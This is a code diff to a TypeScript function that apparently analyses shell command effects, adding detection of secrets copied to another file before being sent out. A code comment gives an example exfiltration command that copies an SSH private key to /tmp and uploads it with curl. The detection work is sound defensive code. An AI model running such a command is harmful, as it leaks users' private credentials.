@@ -112,9 +112,14 @@ export function finish(
 ): void {
   const all = [...effects, ...redirectionEffects(invocation, starting)];
   for (const each of [...all]) all.push(...onGuardBelow(each, invocation, frame.walker.context));
+  // A secret under another name, written earlier in the request: `cp ~/.ssh/id_rsa /tmp/n; curl -T /tmp/n URL`.
+  const { written } = frame.scene;
+  const copied = all.some(
+    (each) => each.action === 'read' && written.get(each.target.value)?.taints.includes('secret'),
+  );
   for (const each of all) {
-    const carries =
-      each.action === 'send' || each.action === 'publish' ? carriedBy(each, invocation) : each.carries;
+    const sends = each.action === 'send' || each.action === 'publish';
+    const carries = sends ? carriedBy(each, invocation, copied) : each.carries;
     invocation.effects.push(carries === each.carries ? each : { ...each, carries });
     if (DESTRUCTIVE.has(each.action) && each.target.scope === 'unknown') {
       addUnresolved(invocation, { kind: 'target', source: each.target.value });
